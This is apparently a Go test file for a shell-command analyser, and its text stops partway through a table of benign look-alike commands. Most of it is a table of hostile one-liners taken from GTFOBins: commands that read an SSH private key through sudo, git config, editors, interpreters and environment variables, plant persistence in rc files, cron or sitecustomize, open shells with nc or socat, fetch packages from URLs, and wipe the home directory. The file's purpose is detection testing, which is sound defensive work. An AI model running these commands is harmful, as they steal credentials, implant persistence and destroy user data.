package shell

import (
	"slices"
	"strings"
	"testing"
)

const idRSA = "/home/u/.ssh/id_rsa"

// reads is the fact every attack below must yield: the nested command
// reads the key.
var readsKey = []wantPath{wantP(idRSA, wantR)}

// runCases hold, for the rows of programRuns, envRuns and gitExecKeys, an
// attack whose nested command's facts must appear and a look-alike that
// must invent none. Sources: GTFOBins (https://gtfobins.github.io) shell
// and command functions; git-config(1); the manuals of each program.
var runCases = []parseCase{
	// ---- wrappers and hand-written readers (rows with by) ----
	{name: "run sudo", src: `sudo -u root cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run doas", src: `doas -u root cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run pkexec", src: `pkexec --user root cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run su -c", src: `su -c 'cat ~/.ssh/id_rsa' root`, paths: readsKey},
	{name: "run runuser -u", src: `runuser -u root -- cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run env", src: `env -i A=1 cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run nice nohup setsid", src: `nice -n 5 nohup setsid cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run timeout stdbuf", src: `timeout 5 stdbuf -oL cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run chrt ionice taskset", src: `chrt -f 1 ionice -c 3 taskset 0x1 cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run chroot", src: `chroot / cat /home/u/.ssh/id_rsa`, paths: readsKey},
	{name: "run unshare nsenter", src: `unshare -r nsenter -t 1 -m cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run flock", src: `flock /tmp/l cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run strace ltrace", src: `strace -o /dev/null ltrace cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run time command exec builtin", src: `time command exec cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run eval", src: `eval 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run busybox toybox", src: `busybox cat ~/.ssh/id_rsa; toybox cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run xargs stdin words", src: `echo ~/.ssh/id_rsa | xargs cat`, paths: readsKey},
	{name: "run xargs -I", src: `echo ~/.ssh/id_rsa | xargs -I{} cp {} /tmp/k`, paths: []wantPath{wantP(idRSA, wantR), wantP("/tmp/k", wantW)}},
	{name: "run parallel", src: `parallel 'cat {}' ::: ~/.ssh/id_rsa`, cmds: [][]string{argvOf("cat", "{}")}},
	{name: "run watch", src: `watch -n 1 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run script -c", src: `script -qc 'cat ~/.ssh/id_rsa' /dev/null`, paths: readsKey},
	{name: "run at stdin", src: `echo 'cat ~/.ssh/id_rsa' | at now`, paths: readsKey},
	{name: "run batch stdin", src: `echo 'cat ~/.ssh/id_rsa' | batch`, paths: readsKey},
	{name: "run systemd-run", src: `systemd-run --user cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run npx -c", src: `npx -c 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run uv poetry bundle pnpm", src: `uv run cat ~/.ssh/id_rsa; poetry run cat ~/.ssh/id_rsa; bundle exec cat ~/.ssh/id_rsa; pnpm exec cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run sshpass", src: `sshpass -p x cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run find -exec", src: `find ~/.ssh -name id_rsa -exec cat ~/.ssh/id_rsa \;`, paths: readsKey},
	{name: "run find -okdir", src: `find . -okdir cat ~/.ssh/id_rsa \;`, paths: readsKey},
	{name: "run sh -c", src: `sh -c 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run trap", src: `trap 'cat ~/.ssh/id_rsa' EXIT`, paths: readsKey},
	{name: "run cmd /c", src: `cmd /c cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run tar checkpoint-action", src: `tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run tar to-command", src: `tar xf a.tar --to-command='cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run tar -I", src: `tar -I 'cat ~/.ssh/id_rsa' -cf x.tar y`, paths: readsKey},
	{name: "run zip -TT", src: `zip x.zip y -T -TT 'cat ~/.ssh/id_rsa #'`, paths: readsKey},
	{name: "run rsync -e", src: `rsync -e 'sh -c "cat ~/.ssh/id_rsa"' x 127.0.0.1:/dev/null`, paths: readsKey},
	{name: "run scp -S", src: `scp -S ./evil.sh x y:`, paths: []wantPath{wantP(testCwd+"/evil.sh", wantX)}},
	{name: "run sftp -o ProxyCommand", src: `sftp -o 'ProxyCommand=cat ~/.ssh/id_rsa' h`, paths: readsKey},
	{name: "run ssh ProxyCommand", src: `ssh -o ProxyCommand='cat ~/.ssh/id_rsa' x`, paths: readsKey},
	{name: "run ssh LocalCommand", src: `ssh -o PermitLocalCommand=yes -o 'LocalCommand cat ~/.ssh/id_rsa' h`, paths: readsKey},
	{name: "run socat EXEC", src: `socat - 'EXEC:cat ~/.ssh/id_rsa'`, paths: readsKey, signals: []Signal{revShell}},
	{name: "run nc -c", src: `nc -c 'cat ~/.ssh/id_rsa' h 9`, paths: readsKey, hosts: []string{"h"}, signals: []Signal{revShell}},
	{name: "run rg --pre", src: `rg --pre ./pre.sh x`, paths: []wantPath{wantP(testCwd+"/pre.sh", wantX)}},
	{name: "run vim -c bang", src: `vim -c ':!cat ~/.ssh/id_rsa' -c ':q'`, paths: readsKey},
	{name: "run vim +cmd call system", src: `vim '+call system("cat ~/.ssh/id_rsa")' +q`, paths: readsKey},
	{name: "run vi -c py3", src: `vi -c ':py3 import os; os.system("cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run ex silent", src: `ex -c 'silent !cat ~/.ssh/id_rsa' -c q`, paths: readsKey},
	{name: "run awk system", src: `awk 'BEGIN {system("cat ~/.ssh/id_rsa")}'`, paths: readsKey},
	{name: "run awk pipe getline", src: `gawk 'BEGIN { "cat ~/.ssh/id_rsa" | getline x; print x }'`, paths: readsKey},
	{name: "run awk print pipe", src: `mawk 'BEGIN { print "x" | "cat ~/.ssh/id_rsa" }'`, paths: readsKey},
	{name: "run sed e command", src: `sed -n '1e cat ~/.ssh/id_rsa' /etc/hosts`, paths: readsKey},
	{name: "run sed s///e", src: `echo x | sed 's/x/cat ~\/.ssh\/id_rsa/e'`, paths: readsKey},
	{name: "run sed bare e", src: `echo 'cat ~/.ssh/id_rsa' | sed e`, paths: readsKey},
	{name: "run sed e after address", src: `sed -n '/start/,/end/p;1e cat ~/.ssh/id_rsa' f.txt`, paths: readsKey},
	{name: "run sed w", src: `sed -n 'w /tmp/out' x`, paths: []wantPath{wantP("/tmp/out", wantW)}},
	{name: "run python os.system", src: `python3 -c 'import os; os.system("cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run python subprocess list", src: `python -c 'import subprocess; subprocess.run(["cat", "/home/u/.ssh/id_rsa"])'`, cmds: [][]string{argvOf("cat", idRSA)}, paths: readsKey},
	{name: "run python pty.spawn", src: `python3 -c 'import pty; pty.spawn("/bin/sh")'`, cmds: [][]string{argvOf("/bin/sh")}},
	{name: "run python f-string home", src: `python3 -c 'import os; os.system(f"cat {os.environ[\"HOME\"]}/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run perl system", src: `perl -e 'system("cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run perl backticks", src: "perl -e 'print `cat ~/.ssh/id_rsa`'", paths: readsKey},
	{name: "run perl qx", src: `perl -e 'print qx{cat ~/.ssh/id_rsa}'`, paths: readsKey},
	{name: "run perl pipe open", src: `perl -e 'open(F, "cat ~/.ssh/id_rsa |"); print <F>'`, paths: readsKey},
	{name: "run perl exec ENV HOME", src: `perl -e 'exec "cat $ENV{HOME}/.ssh/id_rsa"'`, paths: readsKey},
	{name: "run node child_process", src: `node -e 'require("child_process").execSync("cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run node template home", src: "node -e 'require(\"child_process\").execSync(`cat ${os.homedir()}/.ssh/id_rsa`)'", paths: readsKey},
	{name: "run node execFile", src: `node -e 'require("child_process").execFileSync("cat", ["/home/u/.ssh/id_rsa"])'`, cmds: [][]string{argvOf("cat", idRSA)}},
	{name: "run ruby system", src: `ruby -e 'system "cat ~/.ssh/id_rsa"'`, paths: readsKey},
	{name: "run ruby %x", src: `ruby -e 'puts %x(cat ~/.ssh/id_rsa)'`, paths: readsKey},
	{name: "run php shell_exec", src: `php -r 'echo shell_exec("cat ~/.ssh/id_rsa");'`, paths: readsKey},
	{name: "run php passthru", src: `php -r 'passthru("cat ~/.ssh/id_rsa");'`, paths: readsKey},
	{name: "run lua os.execute", src: `lua -e 'os.execute("cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run python stdin", src: `echo 'import os; os.system("cat ~/.ssh/id_rsa")' | python3`, paths: readsKey},
	{name: "run git -c core.pager", src: `git -c core.pager='cat ~/.ssh/id_rsa' log`, paths: readsKey},
	{name: "run git -c core.sshCommand", src: `git -c core.sshCommand='cat ~/.ssh/id_rsa' fetch origin`, paths: readsKey},
	{name: "run git -c alias bang", src: `git -c 'alias.x=!cat ~/.ssh/id_rsa' x`, paths: readsKey},
	{name: "run git -c core.editor", src: `git -c core.editor='cat ~/.ssh/id_rsa' commit`, paths: readsKey},
	{name: "run git -c diff textconv", src: `git -c 'diff.x.textconv=cat ~/.ssh/id_rsa' diff`, paths: readsKey},
	{name: "run git config core.fsmonitor", src: `git config core.fsmonitor 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run git config credential helper", src: `git config --global credential.helper '!cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run git config hooksPath", src: `git config core.hooksPath /tmp/hooks`, paths: []wantPath{wantP("/tmp/hooks", wantX)}, signals: []Signal{SignalTrustSubverted}},
	{name: "run git clone -c", src: `git clone -c core.sshCommand='cat ~/.ssh/id_rsa' git@h:x/y`, paths: readsKey},
	{name: "run git rebase --exec", src: `git rebase --exec 'cat ~/.ssh/id_rsa' HEAD~1`, paths: readsKey},
	{name: "run git submodule foreach", src: `git submodule foreach 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run git bisect run", src: `git bisect run cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run git filter-branch", src: `git filter-branch --tree-filter 'cat ~/.ssh/id_rsa' HEAD`, paths: readsKey},
	{name: "run git ext transport", src: `git clone 'ext::sh -c cat% ~/.ssh/id_rsa' x`, paths: readsKey},
	{name: "run git difftool -x", src: `git difftool -x 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run git grep -O", src: `git grep --open-files-in-pager='cat ~/.ssh/id_rsa' x`, paths: readsKey},
	{name: "run git push receive-pack", src: `git push --receive-pack='cat ~/.ssh/id_rsa' origin`, paths: readsKey},

	// ---- environment variables a program runs ----
	{name: "run env GIT_SSH_COMMAND", src: `GIT_SSH_COMMAND='cat ~/.ssh/id_rsa' git fetch`, paths: readsKey},
	{name: "run env PAGER", src: `PAGER='cat ~/.ssh/id_rsa' man ls`, paths: readsKey},
	{name: "run env GIT_PAGER export", src: `export GIT_PAGER='cat ~/.ssh/id_rsa'; git log`, paths: readsKey},
	{name: "run env EDITOR", src: `EDITOR='cat ~/.ssh/id_rsa' crontab -e`, paths: readsKey},
	{name: "run env VISUAL via env", src: `env VISUAL='cat ~/.ssh/id_rsa' git commit`, paths: readsKey},
	{name: "run env LESSOPEN", src: `LESSOPEN='|cat ~/.ssh/id_rsa %s' less x`, paths: readsKey},
	{name: "run env BROWSER", src: `BROWSER='cat ~/.ssh/id_rsa' xdg-open https://x.io`, paths: readsKey},
	{name: "run env PROMPT_COMMAND", src: `export PROMPT_COMMAND='cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run env BASH_ENV", src: `BASH_ENV=/tmp/x.sh bash -c true`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run env GIT_SSH program", src: `GIT_SSH=/tmp/x git fetch`, paths: []wantPath{wantP("/tmp/x", wantX)}},
	{name: "run env LD_PRELOAD", src: `LD_PRELOAD=/tmp/evil.so ls`, paths: []wantPath{wantP("/tmp/evil.so", wantX)}},
	{name: "run env SUDO_ASKPASS", src: `SUDO_ASKPASS=/tmp/p sudo -A id`, paths: []wantPath{wantP("/tmp/p", wantX)}},

	// ---- the table reader ----
	{name: "run less +!", src: `less '+!cat ~/.ssh/id_rsa' /etc/hosts`, paths: readsKey, noPaths: []string{testCwd + "/+!cat ~/.ssh/id_rsa"}},
	{name: "run man -P", src: `man -P 'cat ~/.ssh/id_rsa' ls`, paths: readsKey},
	{name: "run man --html", src: `man --html='cat ~/.ssh/id_rsa' ls`, paths: readsKey},
	{name: "run gdb -ex bang", src: `gdb -nx -ex '!cat ~/.ssh/id_rsa' -ex quit`, paths: readsKey},
	{name: "run gdb -ex shell", src: `gdb -batch -ex 'shell cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run gdb -ex python", src: `gdb -nx -ex 'python import os; os.system("cat ~/.ssh/id_rsa")' -ex quit`, paths: readsKey},
	{name: "run gdb -ex call system", src: `gdb -p 1 -batch -ex 'call system("cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run gdb --args", src: `gdb -ex run --args cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run ed stdin", src: `printf '!cat ~/.ssh/id_rsa\nq\n' | ed`, paths: readsKey},
	{name: "run tmux new", src: `tmux new-session -d -s x 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run tmux send-keys", src: `tmux send-keys -t x 'cat ~/.ssh/id_rsa' Enter`, paths: readsKey},
	{name: "run tmux run-shell", src: `tmux run-shell 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run tmux -c", src: `tmux -c 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run screen -dmS", src: `screen -dmS x cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run screen -X stuff", src: `screen -S x -X stuff 'cat ~/.ssh/id_rsa\n'`, paths: readsKey},
	{name: "run crontab stdin", src: `echo '* * * * * cat ~/.ssh/id_rsa' | crontab -`, paths: readsKey},
	{name: "run crontab @reboot", src: `printf '@reboot cat ~/.ssh/id_rsa\n' | crontab -`, paths: readsKey},
	{name: "run make --eval", src: `make -s --eval=$'x:\n\t-cat ~/.ssh/id_rsa' x`, paths: readsKey},
	{name: "run make --eval rule semicolon", src: `make --eval='x: ; cat ~/.ssh/id_rsa' x`, paths: readsKey},
	{name: "run make --eval shell function", src: `make --eval='X := $(shell cat ~/.ssh/id_rsa)'`, paths: readsKey},
	{name: "run make -f", src: `make -f /tmp/Makefile`, paths: []wantPath{wantP("/tmp/Makefile", wantX)}},
	{name: "run make SHELL", src: `make SHELL=/tmp/sh all`, paths: []wantPath{wantP("/tmp/sh", wantX)}},
	{name: "run cmake -E env", src: `cmake -E env A=1 cat ~/.ssh/id_rsa`, cmds: [][]string{argvOf("cat", idRSA)}},
	{name: "run cmake -P", src: `cmake -P /tmp/x.cmake`, paths: []wantPath{wantP("/tmp/x.cmake", wantX)}},
	{name: "run npm exec", src: `npm exec -- cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run npm exec -c", src: `npm exec -c 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run yarn exec", src: `yarn exec cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run cabal exec", src: `cabal exec -- cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run dpkg -i", src: `dpkg -i /tmp/x.deb`, paths: []wantPath{wantP("/tmp/x.deb", wantX)}},
	{name: "run rpm --eval", src: `rpm --eval '%(cat ~/.ssh/id_rsa)'`, paths: readsKey},
	{name: "run rpm --eval lua", src: `rpm --eval '%{lua:os.execute("cat ~/.ssh/id_rsa")}'`, paths: readsKey},
	{name: "run apt Pre-Invoke", src: `apt update -o APT::Update::Pre-Invoke::='cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run apt-get DPkg Post-Invoke", src: `apt-get install -o 'DPkg::Post-Invoke::=cat ~/.ssh/id_rsa' x`, paths: readsKey},
	{name: "run openvpn --up", src: `openvpn --dev null --script-security 2 --up '/bin/sh -c id'`, cmds: [][]string{argvOf("/bin/sh", "-c", "id"), argvOf("id")}},
	{name: "run certbot hook", src: `certbot renew --pre-hook 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run aria2c hook", src: `aria2c --on-download-error=/tmp/x.sh http://x.io/f`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run wget askpass", src: `wget --use-askpass=/tmp/x.sh http://x.io/f`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run scrot -e", src: `scrot -e 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run xdotool exec", src: `xdotool exec cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run sort compress-program", src: `sort --compress-program=/tmp/x.sh -S 1 big.txt`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run split --filter", src: `split --filter='cat ~/.ssh/id_rsa' x`, paths: readsKey},
	{name: "run nano -s", src: `nano -s /tmp/x.sh f.txt`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run mail --exec", src: `mail --exec='!cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run lftp -c", src: `lftp -c '!cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run dc -e", src: `dc -e '!cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run sqlite3 .shell", src: `sqlite3 /dev/null '.shell cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run sqlite3 -cmd .system", src: `sqlite3 -cmd '.system cat ~/.ssh/id_rsa' x.db`, paths: readsKey},
	{name: "run mysql system", src: `mysql -e '\! cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run psql bang", src: `psql -c '\! cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run gcc -wrapper", src: `gcc -wrapper /tmp/x.sh,-s .`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run pdflatex write18", src: `pdflatex --shell-escape '\immediate\write18{cat ~/.ssh/id_rsa}\end'`, paths: readsKey},
	{name: "run hyperfine", src: `hyperfine 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run pee", src: `echo | pee 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run entr", src: `ls | entr cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run watchexec", src: `watchexec -e go -- cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run nodemon --exec", src: `nodemon --exec 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run logsave", src: `logsave /dev/null cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run setarch", src: `setarch x86_64 cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run choom softlimit valgrind", src: `choom -n 0 softlimit -m 100 valgrind cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run perf stat", src: `perf stat -e cycles cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run cpulimit", src: `cpulimit -l 50 cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run start-stop-daemon", src: `start-stop-daemon -S -x /tmp/x.sh`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run grc torify chronic ifne", src: `grc torify chronic ifne cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run lckdo faketime", src: `lckdo /tmp/l faketime '2020-01-01' cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run numactl prlimit setpriv", src: `numactl -N 0 prlimit --nofile=10 setpriv --no-new-privs cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run cgexec chpst runcon", src: `cgexec -g cpu:x chpst -u u runcon ctx cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run sandbox-exec", src: `sandbox-exec -p '(version 1)' cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run ssh-agent dbus-launch tsp", src: `ssh-agent dbus-launch tsp cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run daemonize dtach abduco", src: `daemonize /tmp/x.sh; dtach -c /tmp/s cat ~/.ssh/id_rsa; abduco -c s cat ~/.ssh/id_rsa`, paths: []wantPath{wantP(idRSA, wantR), wantP("/tmp/x.sh", wantX)}},
	{name: "run ip netns exec", src: `ip netns exec ns1 cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run expect spawn", src: `expect -c 'spawn cat /home/u/.ssh/id_rsa; interact'`, paths: readsKey},
	{name: "run capsh", src: `capsh -- -c 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "run multitime linux32", src: `multitime -n 2 linux32 cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run gem open -e", src: `gem open -e /tmp/x.sh rdoc`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run rake -p", src: "rake -p '`cat ~/.ssh/id_rsa`'", paths: readsKey},
	{name: "run octave --eval", src: `octave-cli --eval 'system("cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run slsh -e", src: `slsh -e 'system("cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run ghc -e", src: `ghc -e 'System.Process.callCommand "cat ~/.ssh/id_rsa"'`, paths: readsKey},
	{name: "run jrunscript", src: `jrunscript -e 'exec("cat /home/u/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run nmap --script", src: `nmap --script=/tmp/x.nse h`, paths: []wantPath{wantP("/tmp/x.nse", wantX)}},
	{name: "run ssh-keygen -D", src: `ssh-keygen -D /tmp/lib.so`, paths: []wantPath{wantP("/tmp/lib.so", wantX)}},
	{name: "run ghci -e", src: `ghci -e 'System.Process.callCommand "cat ~/.ssh/id_rsa"'`, paths: readsKey},
	{name: "run linux64", src: `linux64 cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run xelatex lualatex tex", src: `xelatex '\write18{cat ~/.ssh/id_rsa}'; lualatex '\write18{cat ~/.ssh/id_rsa}'; tex '\write18{cat ~/.ssh/id_rsa}'`, paths: readsKey},
	{name: "run latex", src: `latex '\write18{cat ~/.ssh/id_rsa}'`, paths: readsKey},
	{name: "run clang cc -wrapper", src: `clang -wrapper /tmp/x.sh,-s x.c; cc -wrapper /tmp/x.sh x.c`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run builtin", src: `builtin exec cat ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run written script", src: `printf '#!/bin/sh\ncat ~/.ssh/id_rsa\n' > /tmp/s && chmod +x /tmp/s && scp -S /tmp/s x y:`, paths: readsKey},
	{name: "run written script by bash", src: `echo 'cat ~/.ssh/id_rsa' > run.sh; bash run.sh`, paths: readsKey},
	{name: "run BASH_ENV process substitution", src: `BASH_ENV=<(echo 'cat ~/.ssh/id_rsa') bash -c true`, paths: readsKey},
	{name: "run source process substitution", src: `source <(echo 'cat ~/.ssh/id_rsa')`, paths: readsKey},
	{name: "run awk print to sh", src: `echo 'cat ~/.ssh/id_rsa' | awk '{print | "sh"}'`, paths: readsKey},
	{name: "run parallel stdin commands", src: `echo 'cat ~/.ssh/id_rsa' | parallel`, paths: readsKey},
	{name: "run node spawnSync homedir", src: `node -e "require('child_process').spawnSync('rm',['-rf',require('os').homedir()])"`, cmds: [][]string{argvOf("rm", "-rf", "/home/u")}, paths: []wantPath{wantP("/home/u", wantW)}},
	{name: "run perl exec list ENV HOME", src: `perl -e 'exec "rm", "-rf", $ENV{HOME}'`, paths: []wantPath{wantP("/home/u", wantW)}},
	{name: "run make -f stdin", src: `printf 'all:
	cat ~/.ssh/id_rsa
' | make -f -`, paths: readsKey},
	{name: "run vim -es bang", src: `vim -es +'!cat ~/.ssh/id_rsa' +q`, paths: readsKey},
	{name: "run pip install vcs", src: `pip install git+https://x.example/tools.git`, signals: []Signal{dlExec}},
	{name: "run pip install url", src: `pip3 install https://x.example/pkg-1.0.tar.gz`, signals: []Signal{dlExec}},
	{name: "run npx url", src: `npx -y https://x.example/pkg.tgz`, signals: []Signal{dlExec}},
	{name: "run npm install github", src: `npm install github:evil/pkg`, signals: []Signal{dlExec}},
	{name: "run gh body-file reads", src: `gh issue create --title x --body-file ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run gh api field file", src: `gh api repos/o/r/issues -F body=@/home/u/.ssh/id_rsa`, paths: readsKey},
	{name: "run go test -exec", src: `go test -exec /tmp/x.sh ./...`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run go build -toolexec", src: `go build -toolexec=/tmp/x.sh ./cmd/app`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run tcpdump -z", src: `tcpdump -ln -i lo -w /dev/null -W 1 -G 1 -z /tmp/x.sh`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run npm script-shell", src: `npm --script-shell=/tmp/x.sh run build`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run ssh PKCS11Provider", src: `ssh -o PKCS11Provider=/tmp/lib.so h`, paths: []wantPath{wantP("/tmp/lib.so", wantX)}},
	{name: "run sftp -D", src: `sftp -D /tmp/x.sh h`, paths: []wantPath{wantP("/tmp/x.sh", wantX)}},
	{name: "run git --exec-path", src: `git --exec-path=/tmp/g x`, paths: []wantPath{wantP("/tmp/g", wantX)}},
	{name: "run env GIT_CONFIG_PARAMETERS", src: `GIT_CONFIG_PARAMETERS="'core.pager'='cat ~/.ssh/id_rsa'" git log`, paths: readsKey},
	{name: "run env GIT_CONFIG_KEY VALUE", src: `GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='cat ~/.ssh/id_rsa' git log`, paths: readsKey},
	{name: "run env GIT_EXEC_PATH", src: `GIT_EXEC_PATH=/tmp/g git x`, paths: []wantPath{wantP("/tmp/g", wantX)}},
	{name: "run osascript do shell script", src: `osascript -e 'do shell script "cat ~/.ssh/id_rsa"'`, paths: readsKey},
	{name: "run emacs shell-command", src: `emacs --batch --eval '(shell-command "cat ~/.ssh/id_rsa")'`, paths: readsKey},
	{name: "run Rscript system2", src: `Rscript -e 'system2("cat", "/home/u/.ssh/id_rsa")'`, cmds: [][]string{argvOf("cat", idRSA)}},
	{name: "run tee to bash_aliases", src: `printf 'cat ~/.ssh/id_rsa\n' | tee -a ~/.bash_aliases`, paths: readsKey},
	{name: "run echo to tmux.conf", src: `echo 'run-shell "cat ~/.ssh/id_rsa"' >> ~/.tmux.conf`, paths: readsKey},
	{name: "run echo to vimrc", src: `echo 'autocmd VimEnter * silent !cat ~/.ssh/id_rsa' >> ~/.vimrc`, paths: readsKey},
	{name: "run echo to emacs init", src: `echo '(shell-command "cat ~/.ssh/id_rsa")' >> ~/.emacs.d/init.el`, paths: readsKey},
	{name: "run tee sitecustomize", src: `echo "import os; os.system('cat ~/.ssh/id_rsa')" | sudo tee /usr/lib/python3/dist-packages/sitecustomize.py`, paths: readsKey},
	{name: "run here-string to motd", src: `sudo tee /etc/update-motd.d/99-x <<< 'cat ~/.ssh/id_rsa'`, paths: readsKey},
	{name: "read date -f", src: `date -f ~/.ssh/id_rsa`, paths: readsKey},
	{name: "read hostname -F", src: `hostname -F ~/.ssh/id_rsa`, paths: readsKey},
	{name: "read history -r", src: `history -r ~/.ssh/id_rsa; history`, paths: readsKey},
	{name: "read git config -f", src: `git config -f ~/.ssh/id_rsa --list`, paths: readsKey},
	{name: "read git tag -F", src: `git tag -a v1 -F ~/.ssh/id_rsa`, paths: readsKey},
	{name: "run echo to bashrc", src: `echo 'cat ~/.ssh/id_rsa' >> ~/.bashrc`, paths: []wantPath{wantP(idRSA, wantR), wantP("/home/u/.bashrc", wantW)}},
	{name: "run tee to zshrc", src: `echo 'cat ~/.ssh/id_rsa' | tee -a ~/.zshrc`, paths: []wantPath{wantP(idRSA, wantR), wantP("/home/u/.zshrc", wantW)}},
}

// runLookalikes name no command that runs anything: no fact is invented.
var runLookalikes = []parseCase{
	{name: "like sudo -l", src: `sudo -l`, noPaths: []string{idRSA}},
	{name: "like tar checkpoint dot", src: `tar cf x.tar src --checkpoint=100 --checkpoint-action=dot`, noCmds: [][]string{argvOf("dot")}},
	{name: "like tar -I zstd", src: `tar -I zstd -cf x.tar.zst src`, cmds: [][]string{argvOf("zstd")}},
	{name: "like zip plain", src: `zip -r out.zip src`, paths: []wantPath{wantP(testCwd+"/out.zip", wantW)}},
	{name: "like rsync -e ssh", src: `rsync -av -e 'ssh -p 2222' src/ h:dst/`, cmds: [][]string{argvOf("ssh", "-p", "2222")}, noPaths: []string{idRSA}},
	{name: "like ssh -o options", src: `ssh -o StrictHostKeyChecking=no -o ConnectTimeout=5 h uptime`, cmds: [][]string{argvOf("uptime")}},
	{name: "like vim file", src: `vim -c 'set nu' main.go`, noCmds: [][]string{argvOf("set", "nu")}},
	{name: "like vim +line", src: `vim +42 main.go`, noCmds: [][]string{argvOf("42")}},
	{name: "like awk print", src: `awk '{print $1}' access.log`, noCmds: [][]string{argvOf("print")}},
	{name: "like awk comparison", src: `awk '$3 > 100 {n++} END {print n}' data.txt`, noPaths: []string{testCwd + "/100"}},
	{name: "like sed substitute", src: `sed -i 's/foo/bar/g' main.go`, paths: []wantPath{wantP(testCwd+"/main.go", wantRW)}, noCmds: [][]string{argvOf("bar")}},
	{name: "like sed expression", src: `sed -e 's/e/E/' -e '/^#/d' f.txt`, noCmds: [][]string{argvOf("E")}},
